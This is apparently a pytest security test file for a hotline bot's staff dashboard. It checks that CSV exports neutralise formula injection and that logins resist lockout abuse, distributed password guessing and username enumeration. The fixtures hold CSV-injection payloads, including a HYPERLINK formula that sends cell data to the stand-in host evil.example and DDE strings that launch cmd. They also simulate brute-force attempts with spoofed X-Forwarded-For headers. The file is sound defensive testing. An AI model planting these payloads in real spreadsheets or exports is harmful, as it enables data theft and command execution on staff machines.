"""Attacks on the hotline staff's tools.

- CSV injection: a name or organisation typed into the chat ends up in a file the team opens in
  a spreadsheet; every export must hand it over as text, never as a formula.
- Logins: locking a colleague out from elsewhere, distributed guessing, telling existing user
  names from unknown ones by the answer, its time or its path.
"""

from __future__ import annotations

import csv
import io
from argparse import Namespace
from datetime import datetime
from typing import Optional
from zoneinfo import ZoneInfo

import pytest

from bot.applications.service import DraftService
from bot.booking.calendar import load_calendar_config
from bot.booking.service import BookingRequest, BookingService
from bot.cli import drafts as drafts_cli
from bot.cli.staff import write_csv as write_bookings_csv
from bot.handoff.service import TicketService
from bot.spreadsheet import safe_cell
from bot.storage.db import session_factory
from bot.web.dashboard import Dashboard, DashboardOptions
from bot.web.dashboard.security import SESSION_COOKIE
from tests.conftest import mark_held_after_start

# cheap_hashing is an autouse fixture: imported, it makes scrypt cheap here too.
from tests.test_dashboard import INVALID, LOCKED, PASSWORD, FakeClock, cheap_hashing, hidden, login, run  # noqa: F401

BERLIN = ZoneInfo("Europe/Berlin")
NOW = datetime(2026, 11, 28, 10, tzinfo=BERLIN)
SLOT = datetime(2026, 12, 3, 10, tzinfo=BERLIN)
# What a visitor can type as name or organisation: free_text accepts all of these.
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2;"Details")'
FORMULAS = {
    "name": HYPERLINK,
    "organisation": "@SUM(1+1)*cmd|' /C calc'!A0",
    "cluster_name": "  -2+3+cmd|' /C notepad'!A0",  # leading blanks do not help
}


def cells_of(text: str, delimiter: str = ",") -> list:
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


def assert_neutralised(cell: str, typed: str) -> None:
    assert cell == "'" + typed, cell


# --- CSV injection ----------------------------------------------------------------------------
def test_bookings_export_neutralises_formulas_in_names(database_url):
    service = BookingService(session_factory(database_url), load_calendar_config(), clock=lambda: NOW)
    service.book(
        BookingRequest(
            SLOT,
            "video",
            FORMULAS["name"],
            FORMULAS["organisation"],
            FORMULAS["cluster_name"],
            "anna@example.org",
            None,
            NOW,
        )
    )
    out = io.StringIO()
    write_bookings_csv(service.bookings_between(SLOT.date(), SLOT.date()), out)
    header, row = cells_of(out.getvalue())
    for column, typed in FORMULAS.items():
        assert_neutralised(row[header.index(column)], typed)


def test_drafts_export_neutralises_formulas_in_names(database_url, tmp_path):
    bookings = BookingService(session_factory(database_url), load_calendar_config(), clock=lambda: NOW)
    booking = bookings.book(BookingRequest(SLOT, "video", "Anna", "Org", "Cl", "anna@example.org", None, NOW))
    mark_held_after_start(bookings, booking.reference)
    drafts = DraftService(session_factory(database_url), clock=lambda: NOW)
    draft = drafts.open(booking.reference, booking.email)
    drafts.save_fields(
        draft.reference,
        {
            "cluster_name": FORMULAS["name"],
            "organisation": FORMULAS["organisation"],
            "contact_person": FORMULAS["cluster_name"],
            "actors_total": 120,
        },
    )
    target = tmp_path / "entwuerfe.csv"
    assert drafts_cli.run(Namespace(action="export", format="csv", status=None, out=str(target)), drafts) == 0
    header, row = cells_of(target.read_text("utf-8"))
    assert_neutralised(row[header.index("cluster_name")], FORMULAS["name"])
    assert_neutralised(row[header.index("organisation")], FORMULAS["organisation"])
    assert_neutralised(row[header.index("contact_person")], FORMULAS["cluster_name"])
    assert row[header.index("actors_total")] == "120"


def test_dashboard_questions_export_uses_the_same_rule(database_url):
    """Unanswered questions come straight from the chat. The dashboard escaped "=" at the start
    before; it now applies the one shared rule, so the three exports cannot drift apart."""
    clock = FakeClock(NOW)
    board = Dashboard(database_url, clock, DashboardOptions())
    board.accounts.add("anna", PASSWORD)
    typed = [HYPERLINK, "@SUM(A1:A9)", "-2+3", "\u200b=1+1", "Was kostet das Gold-Label?"]
    tickets = TicketService(board.sessions, clock=clock)
    for text in typed:
        tickets.log_unanswered(text, "not_understood")

    async def scenario(client):
        await login(client)
        return await (await client.get("/hotline/fragen.csv")).text()

    rows = cells_of(run(board, scenario).lstrip("\ufeff"), delimiter=";")
    exported = sorted(row[0] for row in rows[1:])
    assert exported == sorted(safe_cell(text) for text in typed)
    assert sum(cell.startswith("'") for cell in exported) == 4


# --- logins to the dashboard ------------------------------------------------------------------
# The web server sits behind one reverse proxy, so each test request can come from its own address.
ANNA_AT_HOME = "198.51.100.7"
ATTACKER = "203.0.113.66"
START = datetime(2026, 11, 28, 10, tzinfo=BERLIN)  # 09:00 UTC: the start of every limit's window


@pytest.fixture
def clock() -> FakeClock:
    return FakeClock(START)


@pytest.fixture
def board(database_url, clock) -> Dashboard:
    dashboard = Dashboard(database_url, clock, DashboardOptions(proxies_count=1))
    dashboard.accounts.add("anna", PASSWORD)
    return dashboard


async def attempt(
    client, address: str, username: str = "anna", password: str = PASSWORD, forwarded_for: Optional[str] = None
) -> str:
    """One login from a fresh browser at `address`: "ok", "invalid" or "locked"."""
    client.session.cookie_jar.clear()
    headers = {"X-Forwarded-For": forwarded_for or address}
    page = await client.get("/hotline/anmelden", headers=headers)
    token = hidden(await page.text())
    response = await client.post(
        "/hotline/anmelden",
        allow_redirects=False,
        headers=headers,
        data={"csrf_token": token, "username": username, "password": password},
    )
    body = await response.text()
    if response.status == 303 and SESSION_COOKIE in response.cookies:
        return "ok"
    assert response.status == 200 and (INVALID in body) != (LOCKED in body), body
    return "invalid" if INVALID in body else "locked"


def test_an_attacker_elsewhere_cannot_lock_a_colleague_out(board):
    """120 wrong passwords from one address, with invented X-Forwarded-For entries in front of
    the proxy's: that address is locked after 5, Anna at home is not. Refused attempts do not
    count, or they would add up to the per-account limit (100) and lock Anna out after all."""

    async def scenario(client):
        attacks = [
            await attempt(
                client, ATTACKER, password=f"geraten-{i}-passwort", forwarded_for=f"192.0.2.{i % 250}, {ATTACKER}"
            )
            for i in range(120)
        ]
        anna = await attempt(client, ANNA_AT_HOME)
        return attacks, anna

    attacks, anna = run(board, scenario)
    assert attacks[:4] == ["invalid"] * 4 and set(attacks[4:]) == {"locked"}
    assert anna == "ok"
    assert [account.locked_until for account in board.accounts.list()] == [None]


@pytest.mark.parametrize("target", ["anna", "niemand"])
def test_a_distributed_attack_locks_the_account_at_the_per_account_limit(board, clock, target):
    """25 addresses with 4 guesses each stay under every per-address limit; the 100th failure
    in the hour locks the name for everybody, known or unknown, until the hour is over."""

    async def scenario(client):
        attacks = [await attempt(client, f"192.0.2.{i // 4}", target, f"geraten-{i}-passwort") for i in range(99)]
        before = await attempt(client, ANNA_AT_HOME)  # 99 failures: Anna still gets in
        attacks.append(await attempt(client, "192.0.2.200", target, "geraten-99-passwort"))
        during = [await attempt(client, address) for address in (ANNA_AT_HOME, "192.0.2.201")]
        clock.advance(hours=1)
        after = await attempt(client, ANNA_AT_HOME)
        return attacks, before, during, after

    attacks, before, during, after = run(board, scenario)
    assert attacks[:99] == ["invalid"] * 99 and attacks[99] == "locked"
    assert before == "ok" and after == "ok"
    assert during == (["locked", "locked"] if target == "anna" else ["ok", "ok"])


def login_path_of(accounts, username: str, password: str, client: str, spy) -> tuple:
    """(outcome, retry_after, scrypt runs, limiter calls) of one login."""
    spy.clear()
    result = accounts.login(username, password, client)
    return result.outcome, result.retry_after, spy.count("scrypt"), [call for call in spy if call != "scrypt"]


@pytest.fixture
def spy(monkeypatch):
    """Records every scrypt run and every call of the rate limiter, in order."""
    from bot.ratelimit import RateLimiter
    from bot.web.dashboard import passwords

    calls: list = []
    derive = passwords._derive
    monkeypatch.setattr(passwords, "_derive", lambda *args: calls.append("scrypt") or derive(*args))
    for method in ("check", "hit", "reset"):
        original = getattr(RateLimiter, method)

        def recorded(self, limit, *keys, _original=original, _method=method):
            calls.append((_method, limit.name))
            return _original(self, limit, *keys)

        monkeypatch.setattr(RateLimiter, method, recorded)
    return calls


def test_every_failure_takes_the_same_path(board, spy):
    """One scrypt run for every kind of failure, the outcome decided afterwards: the answer's
    time cannot tell an unknown name, a wrong, empty or over-long password or a lock apart."""
    accounts = board.accounts
    failures = {
        "wrong password": ("anna", "falsches-passwort", ANNA_AT_HOME),
        "unknown name": ("niemand", PASSWORD, ANNA_AT_HOME),
        "empty password": ("anna", "", ANNA_AT_HOME),
        "over-long password": ("anna", "x" * 1025, ANNA_AT_HOME),
        "very long password": ("anna", "x" * 60_000, ANNA_AT_HOME),
        "empty name": ("", PASSWORD, ANNA_AT_HOME),
        "over-long name": ("a" * 5000, PASSWORD, ANNA_AT_HOME),
    }
    for kind, (username, password, client) in failures.items():
        outcome, _wait, scrypt_runs, _calls = login_path_of(accounts, username, password, client, spy)
        assert (outcome.value, scrypt_runs) == ("invalid", 1), kind
    for i in range(5):
        login_path_of(accounts, "anna", f"falsch-{i}-passwort", ATTACKER, spy)
    outcome, wait, scrypt_runs, _calls = login_path_of(accounts, "anna", PASSWORD, ATTACKER, spy)
    assert (outcome.value, scrypt_runs) == ("locked", 1), "locked account, right password"
    assert wait is not None


def test_unknown_names_behave_exactly_like_existing_ones(tmp_path, clock, spy):
    """The same series of attempts on an existing and an unknown name, each on a fresh database:
    the same outcomes, the same waits, the same scrypt runs and the same counters, call by call."""
    from bot.storage.migrate import upgrade

    def series(name: str) -> list:
        url = f"sqlite:///{tmp_path / name}.db"
        upgrade(url)
        board = Dashboard(url, clock, DashboardOptions())
        clock.now = START
        if name == "anna":
            board.accounts.add("anna", PASSWORD)
        steps = [(f"geraten-{i}", ATTACKER) for i in range(7)]  # locks the attacker's address
        steps += [("geraten-x", ANNA_AT_HOME), ("", ANNA_AT_HOME), ("y" * 2000, "192.0.2.9")]
        paths = [login_path_of(board.accounts, name, password, client, spy) for password, client in steps]
        clock.advance(minutes=15)  # the address's window is over
        paths.append(login_path_of(board.accounts, name, "geraten-8", ATTACKER, spy))
        return paths

    known, unknown = series("anna"), series("niemand")
    assert known == unknown
    assert [outcome.value for outcome, *_ in known] == ["invalid"] * 4 + ["locked"] * 3 + ["invalid"] * 4
    assert all(scrypt_runs == 1 for _o, _w, scrypt_runs, _c in known)


def test_unknown_names_are_counted_by_every_web_server_process(database_url, clock):
    """Two web servers on one database: failures at either count together, for unknown names too
    (they were counted in each process's memory)."""
    first, second = (Dashboard(database_url, clock, DashboardOptions()) for _ in range(2))
    outcomes = [first.accounts.login("niemand", "geraten", ATTACKER).outcome for _ in range(3)]
    outcomes += [second.accounts.login("niemand", "geraten", ATTACKER).outcome for _ in range(2)]
    assert [o.value for o in outcomes] == ["invalid"] * 4 + ["locked"]


def test_unlock_lets_the_colleague_in_at_once(board, capsys):
    """Anna mistypes five times at home, then a distributed attack uses up the per-account limit:
    one command lifts both locks, without waiting for the windows to end."""
    from bot.cli import staff_accounts

    async def attack(client):
        typos = [await attempt(client, ANNA_AT_HOME, password=f"tippfehler-{i}") for i in range(5)]
        attacks = [await attempt(client, f"192.0.2.{i // 4}", password=f"geraten-{i}-passwort") for i in range(95)]
        return typos, attacks, await attempt(client, ANNA_AT_HOME)

    typos, attacks, before = run(board, attack)
    assert typos[-1] == "locked" and attacks[-1] == "locked" and before == "locked"
    assert staff_accounts.run(Namespace(action="list"), board.accounts) == 0
    assert "anna  (angelegt 2026-11-28, gesperrt bis 2026-11-28 10:00 UTC" in capsys.readouterr().out

    assert staff_accounts.run(Namespace(action="unlock", username="anna"), board.accounts) == 0
    assert "Konto anna entsperrt" in capsys.readouterr().out

    async def after(client):
        return await attempt(client, ANNA_AT_HOME)

    assert run(board, after) == "ok"
    assert [account.locked_until for account in board.accounts.list()] == [None]
